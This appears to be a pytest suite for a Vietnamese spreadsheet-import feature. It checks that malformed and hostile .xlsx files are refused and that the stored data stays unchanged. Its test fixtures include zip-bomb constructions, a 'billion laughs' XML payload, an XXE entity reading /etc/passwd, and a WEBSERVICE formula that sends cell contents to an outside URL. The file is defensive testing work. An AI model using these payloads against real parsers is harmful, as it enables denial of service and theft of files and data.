"""Hostile and broken Excel files: each is built here, refused with a Vietnamese message, report untouched."""

from __future__ import annotations

import datetime as dt
import io
import os
import struct
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from _xlsx_support import sheet_part, small_catalog, small_report, xlsx_entries, zip_bytes

from cchc_desktop.domain.catalog import Catalog
from cchc_desktop.domain.report import Report
from cchc_desktop.domain.serialize import report_to_dict
from cchc_desktop.errors import FileProblemError
from cchc_desktop.export import xlsx_safety
from cchc_desktop.export.xlsx.layout import SHEET_III
from cchc_desktop.export.xlsx.writer import write_workbook
from cchc_desktop.services.exchange_xlsx import read_plan


@pytest.fixture
def catalog() -> Catalog:
    return small_catalog()


@pytest.fixture
def report(catalog: Catalog) -> Report:
    return small_report(catalog)


@pytest.fixture
def exported(tmp_path: Path, report: Report, catalog: Catalog) -> Path:
    path = tmp_path / "phu-luc.xlsx"
    write_workbook(report, catalog, path)
    return path


def refused(path: Path, report: Report, catalog: Catalog) -> str:
    """Import must raise FileProblemError (exit 2 in the CLI) and leave the report as it was."""
    before = report_to_dict(report)
    with pytest.raises(FileProblemError) as info:
        read_plan(path, report, catalog)
    assert report_to_dict(report) == before
    assert info.value.exit_code == 2
    return info.value.message


def with_part(src: Path, dst: Path, part: str, data: bytes) -> Path:
    entries = xlsx_entries(src)
    entries[part] = data
    dst.write_bytes(zip_bytes(entries))
    return dst


# --- not a workbook ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "rỗng (0 byte)"),
        (b"STT;Chi tieu;So lieu\n1;abc;3\n", "không phải là tệp Excel .xlsx"),
        (
            b"<html><body><table><tr><td>1</td></tr></table></body></html>",
            "không phải là tệp Excel",
        ),
        (b"PK\x05\x06" + b"\0" * 18, "không phải là tệp Excel .xlsx"),  # an empty zip
    ],
)
def test_not_a_zip(
    tmp_path: Path, report: Report, catalog: Catalog, content: bytes, expected: str
) -> None:
    path = tmp_path / "so-lieu.xlsx"
    path.write_bytes(content)
    assert expected in refused(path, report, catalog)


def test_missing_file_and_folder(tmp_path: Path, report: Report, catalog: Catalog) -> None:
    assert "Không tìm thấy tệp" in refused(tmp_path / "khong-co.xlsx", report, catalog)
    assert "là một thư mục" in refused(tmp_path, report, catalog)


def test_truncated_zip(tmp_path: Path, exported: Path, report: Report, catalog: Catalog) -> None:
    data = exported.read_bytes()
    for cut in (len(data) // 2, len(data) - 30, 100):
        path = tmp_path / f"cut-{cut}.xlsx"
        path.write_bytes(data[:cut])
        message = refused(path, report, catalog)
        assert "bị hỏng hoặc chưa được tải về" in message, cut


def test_corrupt_deflate_stream(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    data = bytearray(exported.read_bytes())
    part = sheet_part(exported, SHEET_III)
    with zipfile.ZipFile(exported) as zf:
        info = zf.getinfo(part)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 10, start + 200):
        data[i] ^= 0x5A  # scramble the compressed sheet, keep the zip structure
    path = tmp_path / "corrupt.xlsx"
    path.write_bytes(bytes(data))
    assert "bị hỏng" in refused(path, report, catalog)


@pytest.mark.parametrize(
    ("entries", "expected"),
    [
        ({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\0"}, "(.xlsb)"),
        (
            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"},
            "(.ods)",
        ),
        ({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}, "là văn bản Word"),
        ({"readme.txt": b"hello"}, "là tệp nén nhưng không phải bảng tính Excel"),
    ],
)
def test_other_zip_formats(
    tmp_path: Path, report: Report, catalog: Catalog, entries: dict[str, bytes], expected: str
) -> None:
    path = tmp_path / "other.xlsx"
    path.write_bytes(zip_bytes(entries))
    assert expected in refused(path, report, catalog)


# --- OLE: password-protected .xlsx and legacy .xls --------------------------------------------
def _ole(stream_name: str) -> bytes:
    header = xlsx_safety.OLE_MAGIC + b"\0" * 504
    directory = stream_name.encode("utf-16-le") + b"\0" * (128 - 2 * len(stream_name))
    return header + directory * 4 + b"\0" * 2048


def test_password_protected_xlsx(tmp_path: Path, report: Report, catalog: Catalog) -> None:
    path = tmp_path / "mat-khau.xlsx"
    path.write_bytes(_ole("EncryptedPackage"))
    message = refused(path, report, catalog)
    assert "được đặt mật khẩu mở" in message and "bỏ mật khẩu" in message


def test_legacy_xls(tmp_path: Path, report: Report, catalog: Catalog) -> None:
    path = tmp_path / "cu.xls"
    path.write_bytes(_ole("Workbook"))
    message = refused(path, report, catalog)
    assert "Excel 97-2003 (.xls)" in message and "Sổ làm việc Excel (*.xlsx)" in message


def test_encrypted_zip_entry(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    data = bytearray(exported.read_bytes())
    cd = data.find(b"PK\x01\x02")
    data[cd + 8] |= 0x1  # general purpose flag: encrypted, in the central directory
    path = tmp_path / "enc.xlsx"
    path.write_bytes(bytes(data))
    assert "thành phần bị mã hóa" in refused(path, report, catalog)


# --- zip bombs: judged from the central directory before anything is inflated ------------------
def _declare_size(data: bytes, part: str, size: int) -> bytes:
    """Rewrite an entry's uncompressed size in the central directory (a lying bomb header)."""
    out = bytearray(data)
    pos = 0
    while (pos := out.find(b"PK\x01\x02", pos)) >= 0:
        name_len = struct.unpack_from("<H", out, pos + 28)[0]
        if out[pos + 46 : pos + 46 + name_len].decode() == part:
            struct.pack_into("<I", out, pos + 24, size)
            return bytes(out)
        pos += 4
    raise AssertionError(part)


def test_entry_declaring_a_huge_size(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    part = sheet_part(exported, SHEET_III)
    path = tmp_path / "bomb-size.xlsx"
    path.write_bytes(_declare_size(exported.read_bytes(), part, 0xFFFF0000))
    assert path.stat().st_size < 100_000
    message = refused(path, report, catalog)
    assert "có cấu trúc bất thường" in message and f"“{part}”" in message and "4096 MB" in message


def test_shared_strings_over_its_own_limit(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    data = exported.read_bytes()
    names = set(xlsx_entries(exported))
    part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in names else "xl/styles.xml"
    path = tmp_path / "bomb-strings.xlsx"
    path.write_bytes(_declare_size(data, part, 40 * 1024 * 1024))
    assert "40 MB" in refused(path, report, catalog)


def test_high_compression_ratio(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    part = sheet_part(exported, SHEET_III)
    path = with_part(
        exported, tmp_path / "bomb-ratio.xlsx", part, b"<a/>" + b" " * (30 * 1024 * 1024)
    )
    assert path.stat().st_size < 200_000
    message = refused(path, report, catalog)
    assert "quả bom nén" in message and ":1" in message


def test_total_declared_size(
    tmp_path: Path,
    exported: Path,
    report: Report,
    catalog: Catalog,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(xlsx_safety, "MAX_RATIO", 10**9)  # judge the total on its own
    data = exported.read_bytes()
    for part in [n for n in xlsx_entries(exported) if n.startswith("xl/worksheets/")][:3]:
        data = _declare_size(data, part, 60 * 1024 * 1024)
    path = tmp_path / "bomb-total.xlsx"
    path.write_bytes(data)
    assert "tổng dung lượng khi giải nén vượt 128 MB" in refused(path, report, catalog)


def test_too_many_entries(tmp_path: Path, exported: Path, report: Report, catalog: Catalog) -> None:
    entries = xlsx_entries(exported)
    entries.update({f"xl/media/x{i}.bin": b"x" for i in range(600)})
    path = tmp_path / "many.xlsx"
    path.write_bytes(zip_bytes(entries))
    assert "chứa 6" in refused(path, report, catalog) and "tối đa 500" in refused(
        path, report, catalog
    )


def test_fifty_megabyte_file_is_refused_without_reading_it(
    tmp_path: Path, report: Report, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "big.xlsx"
    with path.open("wb") as fh:  # sparse: costs nothing to make
        fh.write(b"PK\x03\x04")
        fh.seek(50 * 1024 * 1024)
        fh.write(b"\0")
    reads: list[int | None] = []
    real_open = Path.open

    class Spy:
        """The opened file, recording every read."""

        def __init__(self, fh: io.BufferedReader) -> None:
            self.fh = fh

        def __enter__(self) -> Spy:
            return self

        def __exit__(self, *exc: object) -> None:
            self.fh.close()

        def fileno(self) -> int:
            return self.fh.fileno()

        def read(self, n: int | None = -1) -> bytes:
            reads.append(n)
            return self.fh.read(n)

    monkeypatch.setattr(Path, "open", lambda self, *a, **k: Spy(real_open(self, *a, **k)))
    message = refused(path, report, catalog)
    assert "quá lớn (50 MB; tối đa 20 MB)" in message
    assert reads == []  # refused from the file's size alone


# --- XML attacks --------------------------------------------------------------------------------
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="5"><c r="A5" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="5"><c r="E5" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>"""


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "external-entity"]
)
def test_entity_attacks_are_refused_before_parsing(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog, payload: bytes
) -> None:
    part = sheet_part(exported, SHEET_III)
    path = with_part(exported, tmp_path / "xml.xlsx", part, payload)
    message = refused(path, report, catalog)
    assert "khai báo thực thể XML" in message and part in message


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "external-entity"]
)
def test_entity_attacks_past_the_prolog_scan_are_stopped_by_defusedxml(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog, payload: bytes
) -> None:
    # a long comment before the DOCTYPE hides it from the pre-flight scan: defusedxml must catch it
    head, rest = payload.split(b"\n", 1)
    padded = head + b"\n<!--" + b"x" * (xlsx_safety._PROLOG_BYTES + 100) + b"-->\n" + rest
    part = sheet_part(exported, SHEET_III)
    path = with_part(exported, tmp_path / "xml2.xlsx", part, padded)
    message = refused(path, report, catalog)
    assert "chứa khai báo thực thể XML" in message


def test_openpyxl_parses_with_defusedxml(monkeypatch: pytest.MonkeyPatch) -> None:
    from openpyxl.xml import functions

    assert openpyxl.DEFUSEDXML is True
    assert functions.iterparse.__module__.startswith("defusedxml")
    xlsx_safety.ensure_defused()
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(FileProblemError, match="defusedxml"):
        xlsx_safety.ensure_defused()


# --- formulas, types, rows ------------------------------------------------------------------------
def test_formula_cells_are_refused_and_never_evaluated(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    wb = openpyxl.load_workbook(exported)
    ws = wb[SHEET_III]
    ws["D7"] = '=WEBSERVICE("http://example.invalid/"&A1)'
    ws["E8"] = '=HYPERLINK("http://example.invalid","bấm")'
    wb.save(tmp_path / "f.xlsx")
    # a cached result is also written, as Excel would: it must not be trusted either
    part = sheet_part(tmp_path / "f.xlsx", SHEET_III)
    entries = xlsx_entries(tmp_path / "f.xlsx")
    entries[part] = entries[part].replace(b"</f><v></v>", b"</f><v>999</v>")
    (tmp_path / "f.xlsx").write_bytes(zip_bytes(entries))
    plan = read_plan(tmp_path / "f.xlsx", report, catalog)
    messages = [str(e) for e in plan.errors]
    assert messages[0].startswith(f"{SHEET_III}!D7: ô chứa công thức “=WEBSERVICE(")
    assert messages[1].startswith(f"{SHEET_III}!E8: ô chứa công thức “=HYPERLINK(")
    assert "Dán đặc biệt > Giá trị" in messages[0]
    assert plan.changes == []


def _long_sheet(exported: Path, path: Path, rows: int, dimension: bytes) -> Path:
    part = sheet_part(exported, SHEET_III)
    with zipfile.ZipFile(exported) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info))
                continue
            # stream the sheet into the zip: never a million-row sheet in memory or through openpyxl
            with dst.open(part, "w", force_zip64=True) as out:
                out.write(
                    b'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main">' + dimension + b"<sheetData>"
                    b'<row r="4"><c r="D4" t="inlineStr"><is><t>S\xe1\xbb\x91 li\xe1\xbb\x87u'
                    b"</t></is></c></row>"
                )
                chunk = []
                for r in range(5, rows + 5):
                    chunk.append(b'<row r="%d"><c r="D%d"><v>%d</v></c></row>' % (r, r, r % 97))
                    if len(chunk) == 20_000:
                        out.write(b"".join(chunk))
                        chunk = []
                out.write(b"".join(chunk) + b"</sheetData></worksheet>")
    return path


def test_million_rows_are_refused_by_the_row_limit(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    # the <dimension> even lies (A1:E5): the reader goes to the real end, bounded by the limit
    path = _long_sheet(exported, tmp_path / "million.xlsx", 1_000_001, b'<dimension ref="A1:E5"/>')
    assert path.stat().st_size < xlsx_safety.MAX_FILE_BYTES
    from openpyxl.worksheet._read_only import ReadOnlyWorksheet

    read: list[int] = []
    original = ReadOnlyWorksheet.iter_rows

    def counted(self: Any, *args: Any, **kwargs: Any) -> Any:
        for row in original(self, *args, **kwargs):
            read.append(1)
            yield row

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ReadOnlyWorksheet, "iter_rows", counted)
        message = refused(path, report, catalog)
    assert f"Trang “{SHEET_III}”" in message and "có hơn 5.000 dòng" in message
    # streamed: the reader stopped just past the limit, not after a million rows (the time it
    # takes is benchmarks/bench_xlsx.py's business, not a test's)
    assert len(read) <= xlsx_safety.MAX_ROWS + 10 + 200  # the sheet, plus the metadata sheet


def test_long_sheet_without_dimension_is_refused_before_parsing(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    # openpyxl would parse such a sheet whole just to learn its size, before any row limit
    path = _long_sheet(exported, tmp_path / "nodim.xlsx", 120_000, b"")
    message = refused(path, report, catalog)
    assert "không khai báo kích thước (dimension)" in message


def test_lying_dimension_does_not_hide_rows(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    wb = openpyxl.load_workbook(exported)
    ws = wb[SHEET_III]
    last = ws.max_row
    ws.cell(last, 4).value = 7  # 7.2.1, the last row
    wb.save(tmp_path / "dim.xlsx")
    part = sheet_part(tmp_path / "dim.xlsx", SHEET_III)
    entries = xlsx_entries(tmp_path / "dim.xlsx")
    xml = entries[part].decode()
    start = xml.index("<dimension ref=")
    end = xml.index("/>", start) + 2
    entries[part] = (xml[:start] + '<dimension ref="A1:E6"/>' + xml[end:]).encode()
    (tmp_path / "dim.xlsx").write_bytes(zip_bytes(entries))
    plan = read_plan(tmp_path / "dim.xlsx", report, catalog)
    assert [(c.key, c.new_value) for c in plan.changes] == [("7.2.1", 7)]


def test_wrong_types_in_the_meta_sheet_and_cells(
    tmp_path: Path, exported: Path, report: Report, catalog: Catalog
) -> None:
    wb = openpyxl.load_workbook(exported)
    meta = wb["_cchc"]
    meta["B4"] = True  # not the version the app wrote: refused with its cell
    wb.save(tmp_path / "types.xlsx")
    plan = read_plan(tmp_path / "types.xlsx", report, catalog)
    assert [e.cell for e in plan.errors] == ["_cchc!B4"]
    ws = wb[SHEET_III]
    meta["B4"] = "2024.1"
    ws["D7"] = True
    ws["D8"] = dt.datetime(2024, 6, 14)
    ws["D9"] = "#N/A"
    ws["E7"] = dt.time(8, 30)
    wb.save(tmp_path / "types.xlsx")
    plan = read_plan(tmp_path / "types.xlsx", report, catalog)
    messages = [str(e) for e in plan.errors]
    assert messages == [
        f"{SHEET_III}!D7: ô chứa giá trị Đúng/Sai (TRUE/FALSE), không phải số liệu.",
        f"{SHEET_III}!D8: ô chứa ngày/giờ, không phải số liệu (có thể ô bị định dạng kiểu ngày "
        "tháng: hãy định dạng lại thành số).",
        f"{SHEET_III}!D9: ô đang báo lỗi “#N/A” của Excel, không phải số liệu.",
    ]


# --- CLI: the database file is byte-for-byte unchanged ------------------------------------------
@pytest.fixture
def cli_db(
    tmp_path: Path, report: Report, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> tuple[Path, int]:
    from cchc_desktop.services.catalogs import CatalogRegistry
    from cchc_desktop.storage.db import open_engine
    from cchc_desktop.storage.repository import Repository

    monkeypatch.setattr(CatalogRegistry, "for_report", lambda self, report: catalog)
    db = tmp_path / "cchc.sqlite3"
    engine = open_engine(db)
    report.id = None
    rid = Repository(engine).save_report(report)
    engine.dispose()
    return db, rid


def _hostile_files(tmp_path: Path, exported: Path) -> dict[str, Path]:
    files: dict[str, Path] = {}
    files["not-zip"] = tmp_path / "a.xlsx"
    files["not-zip"].write_bytes(b"hello")
    files["truncated"] = tmp_path / "b.xlsx"
    files["truncated"].write_bytes(exported.read_bytes()[:500])
    files["ole"] = tmp_path / "c.xls"
    files["ole"].write_bytes(_ole("Workbook"))
    files["xxe"] = with_part(exported, tmp_path / "d.xlsx", sheet_part(exported, SHEET_III), XXE)
    wb = openpyxl.load_workbook(exported)
    wb[SHEET_III]["D7"] = -5
    wb[SHEET_III]["D8"] = 25  # a valid change that must not land either
    wb.save(tmp_path / "e.xlsx")
    files["bad-value"] = tmp_path / "e.xlsx"
    return files


def test_cli_refusals_leave_the_database_bytes_unchanged(
    tmp_path: Path,
    exported: Path,
    cli_db: tuple[Path, int],
    capsys: pytest.CaptureFixture[str],
) -> None:
    from cchc_desktop.cli import main

    db, rid = cli_db
    before = db.read_bytes()
    for name, path in _hostile_files(tmp_path, exported).items():
        code = main(["--db", str(db), "import-xlsx", str(rid), str(path)])
        _, err = capsys.readouterr()
        assert code == 2, name
        assert err.startswith("Lỗi: "), name
        assert db.read_bytes() == before, name
    assert not os.path.exists(str(db) + "-wal") or os.path.getsize(str(db) + "-wal") == 0


def test_cli_round_trip_and_dry_run(
    tmp_path: Path, cli_db: tuple[Path, int], capsys: pytest.CaptureFixture[str]
) -> None:
    from cchc_desktop.cli import main

    db, rid = cli_db
    out = tmp_path / "xuat"  # the .xlsx suffix is added
    assert main(["--db", str(db), "export-xlsx", str(rid), str(out)]) == 0
    assert "Đã xuất" in capsys.readouterr().out
    path = tmp_path / "xuat.xlsx"
    before = db.read_bytes()
    assert main(["--db", str(db), "import-xlsx", str(rid), str(path)]) == 0
    assert "Không có thay đổi nào" in capsys.readouterr().out
    assert db.read_bytes() == before
    wb = openpyxl.load_workbook(path)
    wb[SHEET_III]["D7"] = 40  # 1.1.1
    wb.save(path)
    assert main(["--db", str(db), "import-xlsx", str(rid), str(path), "--dry-run"]) == 0
    out_text = capsys.readouterr().out
    assert "1.1.1  Số nhiệm vụ đề ra trong kế hoạch: 38 -> 40" in out_text
    assert "Chạy thử: 1 thay đổi, chưa ghi gì" in out_text
    assert db.read_bytes() == before
    assert main(["--db", str(db), "import-xlsx", str(rid), str(path)]) == 0
    imported = capsys.readouterr().out
    assert "Đã nhập 1 thay đổi vào báo cáo" in imported
    # the database as it was before the import is kept in backups/ and named
    [backup] = (db.parent / "backups").glob("*-truoc-nhap-excel.sqlite3")
    assert f"Bản sao trước khi nhập: {backup}" in imported
    from cchc_desktop.storage.db import open_engine
    from cchc_desktop.storage.repository import Repository

    engine = open_engine(db)
    try:
        saved = Repository(engine).load_report(rid)
    finally:
        engine.dispose()
    assert saved.values["1.1.1"].value == 40
    assert saved.values["1.1.2"].value == 19
